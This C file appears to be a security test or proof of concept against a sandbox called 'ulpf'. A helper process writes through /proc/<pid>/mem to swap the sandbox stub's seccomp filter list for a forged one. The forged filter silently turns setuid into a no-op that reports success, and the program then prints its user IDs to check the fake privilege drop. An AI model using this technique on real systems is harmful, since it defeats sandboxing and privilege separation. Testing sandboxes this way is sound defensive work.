/*
 * A program that lies about its seccomp filters, in the stub's own list, while it executes another one.
 *
 *	forged_filters FILE		waits for a stub, then lies and executes FILE
 *	forged_filters			the executed program: it prints its user, gives its rights up, and prints it again
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

/* ulpf_lib::boot::BootArgs, ulpf_lib::seccomp::Kept; number of instructions that allow the image's calls */
#define LEAVING 112
#define PREFIX 18

volatile int counter;

static struct {
	uint64_t parent, len, nature;
	struct sock_filter prefix[PREFIX], own[5];
} forged = {
	.len = 5,
	.own = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_setuid, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		/* errno 0: it is not made, and has succeeded */
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	},
};

/* Address of the stub's boot block in the liar's memory (a file whose offsets are addresses), or 0. */
static unsigned long boot_block(pid_t liar, int memory)
{
	char name[64], line[512], magic[8];
	unsigned long found = 0;
	snprintf(name, sizeof name, "/proc/%d/maps", liar);
	FILE *maps = fopen(name, "r");
	while (maps && !found && fgets(line, sizeof line, maps)) {
		unsigned long start, end;
		char prot[5];
		if (sscanf(line, "%lx-%lx %4s", &start, &end, prot) != 3 || memcmp(prot, "rw", 2))
			continue;
		if (start < 0x7e8000000000 || end > 0x7ef000000000 || end - start > 4 << 20)
			continue;
		for (unsigned long at = start; at < end && !found; at += 4096)
			if (pread(memory, magic, 8, at) == 8 && !memcmp(magic, "ulpfboot", 8))
				found = at;
	}
	if (maps)
		fclose(maps);
	return found;
}

/* Another process of the same user, which no thread of ulpf's brings to rest: it writes there what a thread could, and
 * does not end before the liar's memory. */
static void lie(pid_t liar)
{
	char name[64];
	unsigned long block;
	uint64_t list = (uint64_t)&forged;
	snprintf(name, sizeof name, "/proc/%d/mem", liar);
	int memory = open(name, O_RDWR);
	while (!(block = boot_block(liar, memory)))
		if (getppid() != liar)
			_exit(1);
	for (;;)
		if (pwrite(memory, &list, sizeof list, block + LEAVING) != sizeof list)
			_exit(0);
}

int main(int argc, char **argv)
{
	if (argc > 1 && !strcmp(argv[0], "liar")) {
		pid_t self = getpid();
		if (fork() == 0) {
			close(1);
			lie(self);
		}
		puts("up");
		fflush(stdout);
		int memory = open("/proc/self/mem", O_RDONLY);
		while (!boot_block(self, memory))
			usleep(10000);
		close(memory);
		usleep(300000); /* the watches are set */
		execl(argv[1], "honest", NULL);
		perror(argv[1]);
		return 1;
	}
	counter++;
	printf("user %d, effective %d\n", getuid(), geteuid());
	int failed = setuid(getuid());
	counter++;
	printf("then %s, user %d, effective %d\n", failed ? "refused" : "made", getuid(), geteuid());
	return 0;
}
